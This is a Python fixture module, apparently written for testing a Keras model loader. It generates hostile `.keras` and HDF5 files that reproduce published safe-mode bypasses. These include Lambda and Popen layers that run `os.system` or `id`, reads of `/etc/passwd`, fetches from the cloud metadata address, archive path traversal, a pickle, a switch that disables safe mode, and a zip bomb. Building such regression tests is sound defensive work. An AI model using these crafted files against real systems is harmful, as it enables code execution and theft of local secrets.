"""Files that say they are Keras models and want something else: one for each way that was published, and some more.

At some time each was loaded by a release of Keras, in safe mode: GitHub's advisories and the CVE list, 2024 to 2026.
"""

from __future__ import annotations

import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Make = Callable[[Path], None]
SOFTMAX = {"module": "builtins", "class_name": "function", "config": "softmax", "registered_name": "softmax"}


def layer(
    name: str, module: str | None = "keras.layers", registered: str | None = None, **config: Any
) -> dict[str, Any]:
    """Returns the description of a layer; without a module as Keras of old wrote it."""
    placed = {} if module is None else {"module": module, "registered_name": registered}
    return {"class_name": name, "config": {"name": "x", **config}, **placed}


def function(name: str, module: str = "builtins") -> dict[str, Any]:
    """Returns the description of a function."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    """Returns the description of a model with a last layer that is fine."""
    fine = layer("Dense", units=2, activation=SOFTMAX)
    return layer("Sequential", "keras", layers=[layer("InputLayer", batch_shape=[None, 24, 24, 3]), *layers, fine])


def packed(path: Path, config: object, weights: bytes, **options: Any) -> None:
    """Writes a `.keras` file."""
    with zipfile.ZipFile(path, "w", **options) as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", config if isinstance(config, bytes) else json.dumps(config))
        archive.writestr("model.weights.h5", weights)


def weights_of(path: Path, write: Callable[[h5py.File], object]) -> bytes:
    """Returns an HDF5 file in which something was written."""
    where = path.with_suffix(".h5")
    with h5py.File(where, "w") as file:
        write(file)
    return where.read_bytes()


def good_weights(file: h5py.File) -> None:
    """Writes what Keras writes."""
    file.create_dataset("layers/dense/vars/0", data=np.zeros((3, 2), np.float32))
    file.create_group("vars").attrs["name"] = "sequential"


def described(*layers: dict[str, Any]) -> Make:
    """Makes a file with layers."""
    return lambda path: packed(path, sequential(*layers), weights_of(path, good_weights))


def weighted(write: Callable[[h5py.File], object]) -> Make:
    """Makes a file with weights."""
    return lambda path: packed(path, sequential(), weights_of(path, write))


def _as_text(config: bytes) -> Make:
    return lambda path: packed(path, config, weights_of(path, good_weights))


def _virtual(file: h5py.File) -> None:
    view = h5py.VirtualLayout((4,), "f4")
    view[:] = h5py.VirtualSource("/etc/passwd", "x", (4,))
    file.create_virtual_dataset("vars/0", view)


def _again(file: h5py.File) -> None:
    file.create_group("a")
    file["a/b"] = file["a"]


def _legacy(path: Path) -> None:
    path.write_bytes(weights_of(path, good_weights))


def _climbing(path: Path) -> None:
    packed(path, sequential(), b"")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/../../evil.py", "")


def _bomb(path: Path) -> None:
    packed(path, sequential(), bytes(10**7), compression=zipfile.ZIP_DEFLATED)


def _garbled(compression: int) -> Make:
    """Makes a file whose packed description is something else from its 13th byte on, behind what names the format."""

    def make(path: Path) -> None:
        packed(path, sequential(), weights_of(path, good_weights), compression=compression)
        with zipfile.ZipFile(path) as archive:
            entry = archive.getinfo("config.json")
        data = bytearray(path.read_bytes())
        start = entry.header_offset + 30 + len(entry.filename)
        data[start + 12 : start + entry.compress_size] = b"\xaa" * (entry.compress_size - 12)
        path.write_bytes(data)

    return make


def _before_its_beginning(path: Path) -> None:
    """Makes a file whose entries begin before it does: its end record says that the list lies later than it does."""
    packed(path, sequential(), weights_of(path, good_weights))
    data = bytearray(path.read_bytes())
    (list_at,) = struct.unpack_from("<I", data, len(data) - 6)
    struct.pack_into("<I", data, len(data) - 6, list_at + len(data))
    path.write_bytes(data)


def _behind_every_end(path: Path) -> None:
    """Makes a file whose description begins at an offset that no file has, which takes an extra field of 64 bits."""
    packed(path, sequential(), weights_of(path, good_weights))
    data = path.read_bytes()
    (size, list_at) = struct.unpack_from("<II", data, len(data) - 10)
    entry = data.index(b"config.json", list_at) - 46
    before, fixed, after = data[:entry], bytearray(data[entry : entry + 57]), data[entry + 57 : -22]
    extra = struct.pack("<HHQ", 1, 8, 2**64 - 1)
    struct.pack_into("<H", fixed, 30, len(extra))
    struct.pack_into("<I", fixed, 42, 2**32 - 1)
    end = bytearray(data[-22:])
    struct.pack_into("<I", end, 12, size + len(extra))
    path.write_bytes(before + fixed + extra + after + end)


# What each would reach, and how.
HOSTILE: dict[str, Make] = {
    "CVE-2024-3660: marshalled code": described(layer("Lambda", function={"class_name": "__lambda__", "config": {}})),
    "CVE-2025-1550: a function of any module": described(layer("Lambda", function=function("system", "os"))),
    "CVE-2025-1550: a class of any module": described(layer("Popen", "subprocess", args=["id"])),
    "CVE-2025-8747: a download": described(layer("Lambda", function=function("get_file", "keras.utils"))),
    "CVE-2025-9905: HDF5, which knows no safe mode": _legacy,
    "CVE-2025-9906: safe mode switched off": described(
        layer("Activation", activation=function("enable_unsafe_deserialization", "keras.config"))
    ),
    "CVE-2025-9906: safe mode switched off inside": described(
        layer("Activation", activation=function("set_global_attribute", "keras.src.backend.common.global_state"))
    ),
    "CVE-2025-12058: a vocabulary from a file": described(layer("StringLookup", vocabulary="/etc/passwd")),
    "CVE-2025-12058: a vocabulary from an address": described(
        layer("IntegerLookup", vocabulary="http://169.254.169.254/latest")
    ),
    "CVE-2025-12058: in a vectorizer": described(layer("TextVectorization", vocabulary="/etc/passwd")),
    "CVE-2025-12060: a path out of the archive": _climbing,
    "CVE-2025-49655: a pickle": described(layer("TorchModuleWrapper", module="gASV")),
    "CVE-2026-0897: a shape without numbers": weighted(lambda file: file.create_dataset("vars/0", (2**33,), "f4")),
    "CVE-2026-0897: packed": weighted(
        lambda file: file.create_dataset("vars/0", (2**33,), "f4", chunks=(2**20,), compression="gzip")
    ),
    "CVE-2026-1462: a SavedModel": described(layer("TFSMLayer", filepath="/tmp/evil")),
    "CVE-2026-1462: a SavedModel by way of a function": described(
        layer("Lambda", function=function("TFSMLayer", "keras.layers"), arguments={"filepath": "/tmp/evil"})
    ),
    "CVE-2026-1669: numbers of another file": weighted(
        lambda file: file.create_dataset("vars/0", (4,), "u1", external=[("/etc/passwd", 0, 4)])
    ),
    "CVE-2026-1669: a link to another file": weighted(
        lambda file: file.__setitem__("vars", h5py.ExternalLink("/etc/passwd", "/"))
    ),
    "CVE-2026-1669: a soft link": weighted(lambda file: file.__setitem__("vars", h5py.SoftLink("/elsewhere"))),
    "CVE-2026-1669: a view of another file": weighted(_virtual),
    "CVE-2026-12481: a layer without a module": described(layer("Lambda", None, function={"class_name": "__lambda__"})),
    "a fine layer without a module": described(layer("Dense", None, units=2)),
    "a name that somebody registered": described(layer("Dense", registered="evil>Dense", units=2)),
    "a type that is looked up": described(
        {"class_name": "__typespec__", "spec_name": "x", "module": "os", "config": []}
    ),
    "a function that looks others up": described(layer("Activation", activation=function("deserialize"))),
    "code of JAX": described(layer("JaxLayer", call_fn=function("call"))),
    "a layer of somebody else": described(layer("Evil", "evil.layers")),
    "a module of Keras that is none of layers": described(layer("DiskIOStore", "keras.src.saving.saving_lib")),
    "in a layer that is fine": described(layer("TimeDistributed", layer=layer("Lambda"))),
    "in what a layer was built with": described(layer("Dense", units=2) | {"build_config": layer("Lambda")}),
    "in what a part was compiled with": described(sequential() | {"compile_config": layer("Popen", "subprocess")}),
    "no description": _as_text(b"[]"),
    "a broken description": _as_text(b'{"class_name":'),
    "a description of descriptions": _as_text(b'{"a":' * 100_000),
    "another kind of text": _as_text(b"\xff\xfe\xff"),
    "weights that are none": lambda path: packed(path, sequential(), b"weights"),
    "weights of texts": weighted(lambda file: file.create_dataset("vars/0", data=["a", "b"])),
    "weights of references": weighted(
        lambda file: file.create_dataset("vars/0", data=[file.ref], dtype=h5py.ref_dtype)
    ),
    "weights in a circle": weighted(_again),
    "a type among the weights": weighted(lambda file: file.__setitem__("type", np.dtype("f4"))),
    "a bomb": _bomb,
    "a description before the file": _before_its_beginning,
    "a description behind every end": _behind_every_end,
    "a broken description, packed with Deflate": _garbled(zipfile.ZIP_DEFLATED),
    "a broken description, packed with bzip2": _garbled(zipfile.ZIP_BZIP2),
    "a broken description, packed with LZMA": _garbled(zipfile.ZIP_LZMA),
}
